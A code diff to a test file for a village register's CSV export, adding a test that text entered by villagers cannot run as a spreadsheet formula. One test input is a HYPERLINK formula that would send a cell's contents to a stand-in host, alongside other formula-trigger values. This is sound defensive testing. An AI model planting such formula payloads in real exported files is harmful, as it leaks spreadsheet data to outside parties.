@@ -92,7 +92,25 @@ describe('register export (CSV)', () => {
     expect(district[2]).toContain(',2024-02,deported,wages health,');
     expect(await csv('32')).toHaveLength(2);
     expect(await csv(undefined)).toHaveLength(4);
-    expect((await csv(TERNYANG, true))[1]).toMatch(/,\+62 812 3456 7890$/);
+    // A phone number starts with '+': quoted like every cell a spreadsheet would read as a formula.
+    expect((await csv(TERNYANG, true))[1]).toMatch(/,'\+62 812 3456 7890$/);
     expect(scopeOf('35.07')).toEqual({ role: 'district', area: '35.07' });
+  });
+
+  it('never lets text a villager typed run as a spreadsheet formula (CSV injection)', async () => {
+    const store = freshStore();
+    await store.save(
+      entry('f1', {
+        who: '=HYPERLINK("http://x.example/?"&A1)',
+        departure: { country: '+1+1', agency: '@SUM(1)', departed: '2022-01', contractEnd: '' },
+        contact: '-2+3',
+      }),
+    );
+    const out = buffer();
+    await exportRegister({ store, villages: testVillages() }, out, { withContact: true });
+    const row = out.text().trim().split('\n')[1] ?? '';
+    expect(row).toContain(`"'=HYPERLINK(""http://x.example/?""&A1)"`);
+    expect(row).toContain(",'+1+1,'@SUM(1),");
+    expect(row).toMatch(/,'-2\+3$/);
   });
 });
